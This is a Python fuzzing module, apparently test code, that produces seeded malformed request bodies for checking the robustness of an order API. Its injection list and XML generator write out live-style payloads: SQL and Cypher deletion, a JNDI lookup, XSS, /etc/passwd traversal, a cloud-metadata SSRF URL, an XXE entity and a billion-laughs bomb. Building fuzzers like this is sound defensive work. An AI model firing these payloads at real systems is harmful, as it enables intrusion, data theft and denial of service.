"""Seeded hostile inputs: every body shape an attacker or a broken client sends.

``Mutator(seed)`` turns a valid JSON template into a malformed variant: wrong types,
missing and extra fields, nesting up to 10,000 levels, lone surrogates and NUL, invalid
UTF-8, random bytes, truncation, NaN and huge numbers, megabyte bodies, injection
strings. The same seed gives the same requests on every run.
"""
from __future__ import annotations

import json
import random
from typing import Any, Callable

INJECTIONS = [
    "'; DROP TABLE orders; --", "\" OR 1=1 --", "MATCH (n) DETACH DELETE n", "{{7*7}}", "${jndi:ldap://x/a}",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "../../../../etc/passwd", "%s%s%s%n",
    "\r\nX-Injected: 1", "/restart", "/request_human", '/inform{"order_id": "202511230006"}',
    "]]><xml>", "\u202e\u202dabc", "１２３４５６", "😀" * 50, "A" * 5000, "\t\n\r", "null", "0", "-1",
    "9" * 40, "javascript:alert(1)", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
    "查询订单202511230006并取消", "\u0000", "\ud800", "\udfff\ud800", "a\u0000b", "\x7f\x1b[31m",
]
CONTENT_TYPES = ["application/json", "application/json; charset=utf-16", "text/plain", "application/xml",
                 "text/xml", "multipart/form-data; boundary=xyz", "application/x-www-form-urlencoded",
                 "application/octet-stream", "", "*/*"]


def deep(depth: int, kind: str = "list") -> str:
    if kind == "list":
        return "[" * depth + "1" + "]" * depth
    return '{"a":' * depth + "1" + "}" * depth


class Mutator:
    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def choice(self, items):
        return self.rng.choice(items)

    def string(self) -> str:
        r = self.rng.random()
        if r < 0.5:
            return self.choice(INJECTIONS)
        if r < 0.7:
            return "".join(chr(self.rng.randint(0x20, 0x9fff)) for _ in range(self.rng.randint(0, 40)))
        if r < 0.8:
            return "".join(chr(self.rng.randint(0, 0x10ffff)) for _ in range(self.rng.randint(1, 20)))
        return "x" * self.rng.choice([0, 1, 129, 1001, 4001, 20000])

    def value(self, depth: int = 0) -> Any:
        kinds = ["int", "float", "bool", "null", "str", "list", "dict", "bigint"]
        kind = self.choice(kinds if depth < 3 else kinds[:5])
        if kind == "int":
            return self.choice([0, -1, 1, 2 ** 31, 2 ** 63, -2 ** 63, 10 ** 18])
        if kind == "bigint":
            return int("9" * self.rng.choice([20, 400, 4000]))
        if kind == "float":
            return self.choice([0.5, -0.0, 1e308, -1e308, 1e-320, 3.14])
        if kind == "bool":
            return self.choice([True, False])
        if kind == "null":
            return None
        if kind == "str":
            return self.string()
        if kind == "list":
            return [self.value(depth + 1) for _ in range(self.rng.randint(0, 4))]
        return {self.string()[:20]: self.value(depth + 1) for _ in range(self.rng.randint(0, 4))}

    def mutate(self, template: dict) -> bytes:
        """One malformed (or, now and then, merely odd) body derived from ``template``."""
        op = self.rng.random()
        body = json.loads(json.dumps(template))
        keys = list(body)
        if op < 0.16 and keys:                                    # a field of the wrong type
            body[self.choice(keys)] = self.value()
        elif op < 0.24 and keys:                                  # a missing field
            body.pop(self.choice(keys))
        elif op < 0.28:                                           # extra fields
            for _ in range(self.rng.randint(1, 5)):
                body[self.string()[:30]] = self.value()
        elif op < 0.32:                                           # not an object at all
            return json.dumps(self.choice([None, [], [body], "hello", 5, True, 1.5])).encode()
        elif op < 0.40:                                           # nesting, up to 10,000 levels
            depth = self.choice([25, 100, 1000, 5000, 10000])
            kind = self.choice(["list", "dict"])
            if keys and self.rng.random() < 0.5:
                text = json.dumps({**body, self.choice(keys): "@@DEEP@@"})
                return text.replace('"@@DEEP@@"', deep(depth, kind)).encode()
            return deep(depth, kind).encode()
        elif op < 0.50 and keys:                                  # lone surrogates and NUL in strings
            key = self.choice(keys)
            marker = self.choice(["\\ud800", "\\udfff", "\\u0000", "\\ud83d\\u0041", "a\\u0000\\ud800b"])
            text = json.dumps({**body, key: "@@S@@"}, ensure_ascii=False)
            return text.replace("@@S@@", marker).encode("utf-8")
        elif op < 0.55:                                           # invalid UTF-8
            text = json.dumps(body, ensure_ascii=False).encode("utf-8")
            cut = self.rng.randint(0, len(text))
            return text[:cut] + self.choice([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80"]) + text[cut:]
        elif op < 0.60:                                           # random bytes
            return bytes(self.rng.randrange(256) for _ in range(self.rng.randint(0, 2000)))
        elif op < 0.65:                                           # truncated
            text = json.dumps(body).encode()
            return text[:self.rng.randint(0, max(0, len(text) - 1))]
        elif op < 0.70:                                           # not numbers JSON allows
            text = json.dumps({**body, "@@N@@": 0}).replace('"@@N@@": 0',
                                                           f'"n": {self.choice(["NaN", "Infinity", "-Infinity", "1e999", "9" * 5000])}')
            return text.encode()
        elif op < 0.72:                                           # duplicate keys
            text = json.dumps(body)
            return (text[:-1] + ', ' + text[1:]).encode() if len(text) > 2 else text.encode()
        elif op < 0.73:                                           # a megabyte
            return json.dumps({**body, "pad": "x" * (1024 * 1024)}).encode()
        elif op < 0.76:                                           # XML where JSON is expected: a bomb, an entity
            return self.xml_attack().encode()
        elif keys:                                                # odd but well-formed values
            body[self.choice(keys)] = self.string()
        return json.dumps(body, ensure_ascii=self.rng.random() < 0.5).encode("utf-8", errors="surrogatepass")

    def xml_attack(self) -> str:
        return self.choice([
            '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;'
            '&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
            '<xml><Content>&lol3;</Content></xml>',
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;'
            '</Content></xml>',
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/evil.dtd"> %p;]><xml/>',
            "<xml>" + "<a>" * 10000 + "</a>" * 10000 + "</xml>",
            "<xml><Content><![CDATA[" + "]]>" * 10 + "</Content></xml>",
            "<xml><Content>\x00</Content></xml>",
        ])

    def content_type(self, default: str) -> str:
        return default if self.rng.random() < 0.8 else self.choice(CONTENT_TYPES)


def run_fuzz(count: int, make: Callable[[int], tuple], send: Callable[..., Any]) -> list:
    """``count`` requests: ``make(i)`` → send's arguments; returns what send returned."""
    return [send(*make(i)) for i in range(count)]
